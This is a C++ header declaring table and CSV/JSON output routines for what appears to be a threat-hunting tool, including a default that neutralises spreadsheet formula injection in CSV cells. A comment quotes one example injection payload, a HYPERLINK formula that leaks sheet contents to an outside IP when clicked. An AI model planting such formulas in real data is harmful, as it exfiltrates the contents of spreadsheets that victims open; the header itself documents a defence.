// Rows of named columns written as an aligned terminal table, CSV, JSON lines or a JSON array —
// one writer for every listing the commands print (sweep hits, per-indicator and per-host
// summaries, sources).
#pragma once
#include <string>
#include <string_view>
#include <vector>

namespace ashiato::report {

enum class TableFormat { kText, kCsv, kJsonLines, kJson };
// From a command's -f value: csv, jsonl, json; anything else (table) is kText.
TableFormat table_format(std::string_view name);

// CSV cells that start with =, +, -, @, a tab or a carriage return are formulas to a spreadsheet,
// quoted or not (`=HYPERLINK("http://198.51.100.9/?"&A1,"x")` in a proxy user name sends the sheet
// away when clicked). kNeutralised, the default, writes them with a leading ' (OWASP's advice);
// numbers such as -1 and a lone "-" stay as they are. kRaw writes every cell as read (--csv-raw).
enum class CsvCells { kNeutralised, kRaw };

struct RecordTable {
  std::vector<std::string> columns;
  std::vector<bool> numeric;  // per column: written as a JSON number (when the text is one)
  std::vector<std::vector<std::string>> rows;

  void add_column(std::string name, bool is_number = false) {
    columns.push_back(std::move(name));
    numeric.push_back(is_number);
  }
};

// Text: columns padded to their widest value, cut at `max_width` characters (with "…"), control
// and invisible characters shown (core/visible_text.h).
std::string format_table(const RecordTable& table, TableFormat format, std::size_t max_width = 60,
                         CsvCells cells = CsvCells::kNeutralised);
// One JSON array of objects, e.g. to nest a table inside a larger JSON document.
std::string table_json_array(const RecordTable& table);
// Quotes a CSV field when it needs it.
void append_csv_field(std::string& out, std::string_view s, CsvCells cells = CsvCells::kNeutralised);

}  // namespace ashiato::report
